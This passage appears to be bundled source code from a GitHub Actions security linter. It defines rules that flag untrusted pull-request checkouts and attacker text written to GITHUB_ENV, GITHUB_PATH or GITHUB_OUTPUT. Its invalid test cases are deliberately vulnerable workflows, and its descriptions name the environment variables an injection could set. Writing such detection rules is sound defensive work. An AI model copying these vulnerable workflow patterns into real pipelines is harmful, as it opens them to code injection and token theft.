      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
      - uses: actions/labeler@8558fd74291d67161a8a78ce36a881fa63b766a9
`
      },
      {
        name: "a pull_request workflow may build the head",
        filename: ".github/workflows/ci.yml",
        code: `on: pull_request
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - run: make test
`
      }
    ],
    invalid: [
      {
        name: "pull_request_target checks out the head SHA",
        filename: ".github/workflows/preview.yml",
        code: `on: pull_request_target
jobs:
  preview:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - run: npm ci && npm run build
`,
        errors: [{ line: 8, column: 11, messageIncludes: "pull_request_target" }]
      },
      {
        name: "workflow_run checks out the triggering run's head",
        filename: ".github/workflows/report.yml",
        code: `on:
  workflow_run:
    workflows: [CI]
    types: [completed]
jobs:
  report:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          ref: \${{ github.event.workflow_run.head_sha }}
`,
        errors: [{ line: 11, column: 11, messageIncludes: "workflow_run" }]
      },
      {
        name: "merge ref fetched with gh",
        filename: ".github/workflows/bench.yml",
        code: `on: pull_request_target
jobs:
  bench:
    runs-on: ubuntu-latest
    steps:
      - run: gh pr checkout \${{ github.event.pull_request.number }}
        env:
          GH_TOKEN: \${{ github.token }}
`,
        errors: [{ line: 6, column: 9, messageIncludes: "gh pr checkout" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-untrusted-input-github-env.ts
var gha_untrusted_input_github_env_default = defineRule({
  meta: {
    id: "gha-untrusted-input-github-env",
    title: "Attacker-controlled text written to GITHUB_ENV or GITHUB_PATH",
    severity: "high",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "Lines written to the `$GITHUB_ENV` file become environment variables of every later step, and `$GITHUB_PATH` lines are searched for commands first. When the text comes from an issue, a comment, a branch name or a commit message, a newline in it lets its author set `LD_PRELOAD`, `NODE_OPTIONS`, `BASH_ENV` or the path, and so run code in later steps, even when the value is quoted safely in this one.",
    remediation: "Do not pass untrusted text through environment files. Keep it in the step's own `env:` where it is needed; if a later step needs it, use a step output and validate it (a number, a fixed pattern) first, or write it with a random heredoc delimiter.",
    precision: "high",
    cwe: ["CWE-77", "CWE-94"],
    frameworks: { "OpenSSF Scorecard": ["Dangerous-Workflow"] },
    tags: ["actions", "github-env", "ci-untrusted-input"],
    references: [
      "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/workflow-commands-for-github-actions#setting-an-environment-variable",
      "https://securitylab.github.com/resources/github-actions-untrusted-input/"
    ]
  },
  check(step, { report, graph }) {
    for (const write of environmentFileWrites(step, graph)) {
      if (write.file === "GITHUB_OUTPUT") continue;
      const through = write.variable ? ` through $${write.variable}` : "";
      report({
        at: ["run"],
        ...write.range ? { range: write.range } : {},
        message: `untrusted ${write.context} is written${through} to $${write.file}: a newline in it injects environment variables into later steps`
      });
    }
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/triage.yml",
        code: `on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - env:
          TITLE: \${{ github.event.issue.title }}
        run: |
          echo "ISSUE_NUMBER=\${{ github.event.issue.number }}" >> "$GITHUB_ENV"
          echo "Title: $TITLE"
`
      }
    ],
    invalid: [
      {
        name: "expression pasted into the env file",
        filename: ".github/workflows/triage.yml",
        code: `on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "TITLE=\${{ github.event.issue.title }}" >> $GITHUB_ENV
`,
        errors: [{ line: 7, column: 23, messageIncludes: "GITHUB_ENV" }]
      },
      {
        name: "through a job-level variable",
        filename: ".github/workflows/pr.yml",
        code: `on: pull_request_target
jobs:
  build:
    runs-on: ubuntu-latest
    env:
      BRANCH: \${{ github.head_ref }}
    steps:
      - run: echo "BRANCH_NAME=$BRANCH" >> "$GITHUB_ENV"
`,
        errors: [{ line: 8, column: 9, messageIncludes: "$BRANCH" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-untrusted-input-github-output.ts
var gha_untrusted_input_github_output_default = defineRule({
  meta: {
    id: "gha-untrusted-input-github-output",
    title: "Attacker-controlled text written to GITHUB_OUTPUT",
    severity: "medium",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "Each `name=value` line in `$GITHUB_OUTPUT` becomes a step output. Untrusted text (an issue title, a comment, a branch name) with a newline in it can forge other outputs of the step, and later steps or jobs that trust those outputs (a version, a target environment, a flag) then act on the attacker's values.",
    remediation: "Validate the value before writing it (a number, an allowed pattern), or write it with a random heredoc delimiter; never expand such outputs into scripts.",
    precision: "medium",
    cwe: ["CWE-74"],
    tags: ["actions", "step-outputs", "ci-untrusted-input"],
    references: ["https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/workflow-commands-for-github-actions#setting-an-output-parameter"]
  },
  check(step, { report, graph }) {
    for (const write of environmentFileWrites(step, graph)) {
      if (write.file !== "GITHUB_OUTPUT") continue;
      const through = write.variable ? ` through $${write.variable}` : "";
      report({
        at: ["run"],
        ...write.range ? { range: write.range } : {},
        message: `untrusted ${write.context} is written${through} to $GITHUB_OUTPUT, where a newline forges other step outputs`
      });
    }
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/triage.yml",
        code: `on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - id: meta
        run: echo "number=\${{ github.event.issue.number }}" >> "$GITHUB_OUTPUT"
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/triage.yml",
        code: `on: issue_comment
jobs:
  parse:
    runs-on: ubuntu-latest
    steps:
      - id: command
        env:
          BODY: \${{ github.event.comment.body }}
        run: |
          echo "command=$BODY" >> "$GITHUB_OUTPUT"
`,
        errors: [{ line: 9, column: 9, messageIncludes: "$BODY" }]
      }
    ]
  }
});

// packages/rules/src/groups/github-actions.ts
var rules = [
  gha_checkout_persist_credentials_default,
  gha_hardcoded_credential_default,
  gha_oidc_token_on_pull_request_target_default,
  gha_permissions_missing_default,
  gha_permissions_read_all_default,
  gha_permissions_write_all_default,
  gha_pull_request_workflow_assumes_admin_role_default,
  gha_pull_request_write_permissions_default,
  gha_secrets_inherit_default,
  gha_secrets_to_json_default,
  gha_untrusted_checkout_id_token_default,
  gha_untrusted_checkout_secrets_default,
  gha_tls_verification_disabled_default,
  gha_action_not_pinned_default,
  gha_artifact_poisoning_default,
  gha_cache_poisoning_default,
  gha_comment_triggered_checkout_default,
  gha_compromised_action_default,
  gha_container_image_not_pinned_default,
  gha_deprecated_action_version_default,
  gha_dispatch_input_injection_default,
  gha_download_without_checksum_default,
  gha_event_payload_in_script_default,
  gha_known_vulnerable_action_default,
  gha_remote_script_exec_default,
  gha_self_hosted_runner_pull_request_default,
  gha_signature_verification_disabled_default,
  gha_spoofable_bot_check_default,
  gha_template_injection_default,
  gha_unsecure_commands_default,
  gha_untrusted_checkout_exec_default,
  gha_untrusted_checkout_default,
  gha_untrusted_input_github_env_default,
  gha_untrusted_input_github_output_default
];
export {
  rules
};
